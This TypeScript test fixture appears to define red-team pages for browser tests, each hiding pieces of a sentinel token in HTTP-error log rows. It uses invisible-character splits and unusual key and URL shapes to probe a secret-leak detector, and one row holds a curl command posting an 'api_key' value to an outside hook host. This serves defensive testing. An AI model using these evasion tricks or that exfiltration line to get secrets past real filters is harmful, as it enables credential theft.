// Attack pages of red-team round thirteen that both browsers are tested on, and what each must
// show: one definition each.
import { TOKEN } from './token-sentinel';

/** A piece of the sentinel. */
const part = (start: number, end: number): string => TOKEN.slice(start, end);

const page = (title: string, rows: string[]): string =>
  `<!doctype html><meta charset="utf-8"><title>${title}</title><ul id="log">${rows.join('')}</ul>`;

/** The whole sentinel in three runs, each too short for the 20-character run rule, joined by `mark`. */
const splitBy = (mark: string): string => [part(0, 10), part(10, 20), part(20, TOKEN.length)].join(mark);

/**
 * The sentinel split by characters that draw nothing: a soft hyphen, a zero-width space, `<wbr>`
 * (which adds no character at all), and default-ignorable ones a page may use the same way (an
 * invisible separator, a combining grapheme joiner, a Mongolian vowel separator, a variation selector).
 */
export const INVISIBLE_SPLIT_ROWS = [
  `<li>HTTP 401 Unauthorized · sent ${splitBy('&shy;')}</li>`,
  `<li>HTTP 403 Forbidden · sent ${splitBy('&#x200b;')}</li>`,
  `<li>HTTP 404 Not Found · sent ${splitBy('<wbr>')}</li>`,
  `<li>HTTP 500 Internal Server Error · sent ${splitBy('&#x2063;')}</li>`,
  `<li>HTTP 502 Bad Gateway · sent ${splitBy('&#x34f;')}</li>`,
  `<li>HTTP 503 Service Unavailable · sent ${splitBy('&#x180e;')}</li>`,
  `<li>HTTP 504 Gateway Timeout · sent ${splitBy('&#xfe0f;')}</li>`,
];

/**
 * Twelve-character pieces under keys not tried before: short key words, escaped form keys, URL
 * parts after `;` and `#`, a `blob:` URL and a `data:` URL's base64 payload.
 */
const piece = (start: number): string => TOKEN.slice(start, start + 12);
export const KEY_SHAPE_ROWS = [
  `<li>HTTP 401 Unauthorized · login passwd=${piece(0)}</li>`,
  `<li>HTTP 401 Unauthorized · pwd: ${piece(2)}</li>`,
  `<li>HTTP 403 Forbidden · curl -d 'api%5Fkey=${piece(4)}' https://hooks.example.com/in</li>`,
  `<li>HTTP 403 Forbidden · body {"api\\u005fkey": "${piece(6)}"}</li>`,
  `<li>HTTP 404 Not Found · POST https://hooks.example.com/in;${piece(8)}</li>`,
  `<li>HTTP 404 Not Found · POST https://hooks.example.com/in#?sig=${piece(10)}</li>`,
  `<li>HTTP 500 Internal Server Error · POST https://hooks.example.com/in;v=2;${piece(12)}/send</li>`,
  `<li>HTTP 500 Internal Server Error · blob:https://hooks.example.com/${piece(14)}</li>`,
  `<li>HTTP 502 Bad Gateway · preview data:text/plain;base64,${piece(16)}</li>`,
];

/** The round's pages of rows quoting pieces of the sentinel, each with the attack it tries. */
export const SENTINEL_PAGES_13 = [
  {
    name: 'invisible-split',
    attack: 'split by invisible characters and <wbr>',
    html: page('Invisible split', INVISIBLE_SPLIT_ROWS),
    rows: INVISIBLE_SPLIT_ROWS.length,
    inText: true,
  },
  {
    name: 'key-shapes',
    attack: 'under short key words, escaped keys, URL parts after ; and #, blob: and data: URLs',
    html: page('Key shapes', KEY_SHAPE_ROWS),
    rows: KEY_SHAPE_ROWS.length,
    inText: true,
  },
];

/**
 * A document in design mode (how e-mail editors hold the message being written) with failing
 * rows in a list, a status column and prose: all of it is the editor's content, so nothing of ours
 * goes in. `READ_DESIGN_MODE` reads what the page would save.
 */
export const DESIGN_MODE_HTML = `<!doctype html><meta charset="utf-8"><title>Design mode</title><script>document.designMode = 'on';</script>
<div id="message"><ul><li>HTTP 500 Internal Server Error</li><li>200 OK</li><li>HTTP 429 Too Many Requests</li></ul>
<table><thead><tr><th>Recipient</th><th>Status</th></tr></thead><tbody><tr><td>ana@example.com</td><td>503</td></tr><tr><td>bo@example.com</td><td>200</td></tr></tbody></table>
<p>Retry 1 of 3 failed: 502 Bad Gateway</p></div>`;
export const READ_DESIGN_MODE = `({ designMode: document.designMode, ours: document.getElementById('message').innerHTML.includes('webhook-doctor') })`;
